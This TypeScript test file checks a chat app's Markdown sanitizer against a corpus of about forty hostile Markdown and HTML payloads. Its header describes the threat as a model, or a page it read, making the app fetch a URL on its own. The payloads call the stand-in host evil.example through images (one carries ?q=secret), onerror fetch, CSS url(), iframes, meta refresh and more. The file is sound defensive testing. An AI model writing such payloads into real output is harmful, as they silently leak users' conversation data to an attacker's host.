/**
 * A hostile Markdown corpus: everything a model (or a page it read) could write to make
 * the app load a URL by itself. After rendering, no attribute but a link's `href` may name
 * the attacker's host, and only `data:` images remain images.
 */
import { JSDOM } from 'jsdom';
import { describe, expect, test } from 'vitest';
import { markdownToSafeHtml } from './markdown';
import { createSanitizer } from './safe-html';

const { window } = new JSDOM('<!doctype html><html><body></body></html>');
const render = (markdown: string) => markdownToSafeHtml(markdown, createSanitizer(window as never));
const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

const HOSTILE: Record<string, string> = {
  'markdown image': '![the chat](https://evil.example/md?q=secret)',
  'protocol-relative image': '![x](//evil.example/relative)',
  'reference image': '![a][r]\n\n[r]: https://evil.example/ref',
  'image inside a link': '[![x](https://evil.example/in-link)](https://evil.example/target)',
  'raw img': '<img src="https://evil.example/img" alt="cat">',
  'upper-case scheme': '<IMG SRC="HTTPS://EVIL.EXAMPLE/upper">',
  '<image> (parsed as img)': '<image src="https://evil.example/image-tag">',
  'img srcset on a data image': `<img src="${PIXEL}" srcset="https://evil.example/srcset 2x">`,
  'img lowsrc, dynsrc, longdesc': '<img lowsrc="https://evil.example/lowsrc" dynsrc="https://evil.example/dynsrc" longdesc="https://evil.example/longdesc">',
  'img onerror': `<img src="x" onerror="fetch('https://evil.example/onerror')">`,
  picture: '<picture><source srcset="https://evil.example/picture-source"><img src="https://evil.example/picture-img" alt="p"></picture>',
  video: '<video src="https://evil.example/video" poster="https://evil.example/poster" autoplay></video>',
  'video sources': '<video><source src="https://evil.example/video-source"><track src="https://evil.example/track"></video>',
  audio: '<audio src="https://evil.example/audio" autoplay></audio>',
  'table backgrounds': '<table background="https://evil.example/table"><tr><td background="https://evil.example/td">x</td></tr></table>',
  'markdown table then raw td': '| a |\n|---|\n| <span style="background:url(https://evil.example/cell)">b</span> |',
  'style url()': '<p style="background:url(https://evil.example/style)">x</p>',
  'style image-set': `<div style="background-image:image-set('https://evil.example/image-set' 1x)">x</div>`,
  '<style> sheet': '<style>body{background:url(https://evil.example/sheet)}</style>',
  'style @import': '<style>@import "https://evil.example/import";</style>',
  '<link> stylesheet': '<link rel="stylesheet" href="https://evil.example/link">',
  'link prefetch': '<link rel="prefetch" href="https://evil.example/prefetch">',
  'svg image': '<svg><image href="https://evil.example/svg-image"/></svg>',
  'svg use': '<svg><use xlink:href="https://evil.example/svg-use#x"/></svg>',
  'svg feImage': '<svg><filter><feImage href="https://evil.example/feimage"/></filter></svg>',
  'math href': '<math href="https://evil.example/math"><mi>x</mi></math>',
  'input image': '<input type="image" src="https://evil.example/input">',
  object: '<object data="https://evil.example/object"></object>',
  embed: '<embed src="https://evil.example/embed">',
  iframe: '<iframe src="https://evil.example/iframe"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<img src=https://evil.example/srcdoc>"></iframe>',
  'body background': '<body background="https://evil.example/body">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/meta">',
  base: '<base href="https://evil.example/">',
  'a ping': '<a href="https://ok.example/" ping="https://evil.example/ping">link</a>',
  'blockquote cite': '<blockquote cite="https://evil.example/cite">q</blockquote>',
  'form action': '<form action="https://evil.example/form"><button formaction="https://evil.example/formaction">x</button></form>',
  script: '<script src="https://evil.example/script"></script>',
  'html manifest': '<html manifest="https://evil.example/manifest">',
};

/** Every attribute of every element that names the attacker, except a link's `href`. */
function loadingAttributes(html: string): string[] {
  const { document } = new JSDOM(`<!doctype html><body>${html}</body>`).window;
  const found: string[] = [];
  for (const element of Array.from(document.body.querySelectorAll('*'))) {
    for (const attr of Array.from(element.attributes)) {
      if (element.tagName === 'A' && (attr.name === 'href' || attr.name === 'title')) continue;
      if (/evil\.example/i.test(attr.value)) found.push(`<${element.tagName.toLowerCase()} ${attr.name}="${attr.value}">`);
    }
  }
  return found;
}

describe('nothing in the hostile corpus can load a URL', () => {
  for (const [name, markdown] of Object.entries(HOSTILE)) {
    test(name, () => {
      const html = render(markdown);
      expect(loadingAttributes(html)).toEqual([]);
      expect(html).not.toMatch(/<(img|video|audio|source|track|picture|style|link|svg|iframe|object|embed|meta|base|script)\b(?![^>]*src="data:image)/i);
    });
  }
});

test('an external image becomes a link the person may click, naming its host', () => {
  const html = render('![a cat](https://cats.example/cat.png)');
  const { document } = new JSDOM(html).window;
  const link = document.querySelector('a.image-link')!;
  expect(link.getAttribute('href')).toBe('https://cats.example/cat.png');
  expect(link.getAttribute('rel')).toBe('noopener noreferrer');
  expect(link.textContent).toBe('a cat — Open image from cats.example');
  expect(document.querySelector('img')).toBeNull();
});

test('data: images stay images; text, code and links stay as they were', () => {
  const html = render(`Hello **world**\n\n![dot](${PIXEL})\n\n[docs](https://docs.example/)\n\n\`\`\`js\nconst a = 1;\n\`\`\``);
  const { document } = new JSDOM(html).window;
  expect(document.querySelector('img')?.getAttribute('src')).toBe(PIXEL);
  expect(document.querySelector('strong')?.textContent).toBe('world');
  expect(document.querySelector('a')?.getAttribute('target')).toBe('_blank');
  expect(document.querySelector('pre code.language-js')).not.toBeNull();
});

test('an image that no click could open leaves its description only', () => {
  expect(render('![logo](javascript:alert(1))')).toBe('<p>[image: logo]</p>\n');
  expect(render('<img src="/v1/models" alt="x">')).toBe('[image: x]');
});

test('code blocks are keyboard-focusable (they scroll sideways), whatever tabindex the model wrote', () => {
  const html = render('```js\nconst x = 1;\n```\n\n<pre tabindex="-1">raw</pre>');
  const doc = new window.DOMParser().parseFromString(html, 'text/html');
  const pres = Array.from(doc.querySelectorAll('pre'));
  expect(pres).toHaveLength(2);
  for (const pre of pres) expect(pre.getAttribute('tabindex')).toBe('0');
});
